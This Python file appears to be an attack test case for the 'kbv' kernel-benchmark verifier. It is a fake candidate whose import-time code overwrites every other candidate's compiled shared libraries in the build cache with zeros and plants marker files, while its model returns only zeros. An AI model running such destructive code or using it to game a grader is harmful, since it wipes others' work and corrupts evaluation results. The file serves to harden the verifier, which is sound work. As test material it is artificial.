"""Attack: overwrite other candidates' compiled extensions in the shared build cache
(examples/problems/level1/19_ReLU.py).

kbv builds each candidate under <build root>/<its source hash>; this candidate's own folder is
TORCH_EXTENSIONS_DIR (set by kbv's build hooks). It walks the build root and overwrites every
shared library of every other entry with garbage, and writes a file into each entry.
kbv must conclude: incorrect for this one; every other candidate's verdict unchanged (its entry
not writable, and a library that changed is rebuilt before it is loaded).
"""
import glob
import os
import sys

import torch
import torch.nn as nn

sys.path.insert(0, os.path.dirname(__file__))
from _attack_common import report  # noqa: E402


def _attack():
    own = os.environ.get("TORCH_EXTENSIONS_DIR", "")
    root = os.path.dirname(own.rstrip("/")) if own else "/tmp/kbv-build"
    hits = 0
    for lib in glob.glob(os.path.join(root, "*", "**", "*.so"), recursive=True):
        if own and lib.startswith(own):
            continue
        try:
            with open(lib, "wb") as f:
                f.write(b"\0" * 4096)
            hits += 1
        except OSError as e:
            report("build_cache_overwrite", f"{lib}: {e}")
    for entry in glob.glob(os.path.join(root, "*")):
        try:
            with open(os.path.join(entry, "kbv-attack-was-here"), "w") as f:
                f.write("x")
            hits += 1
        except OSError:
            pass
    report("build_cache_overwrite", f"overwrote {hits} file(s) under {root}")


_attack()


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.zeros_like(x)
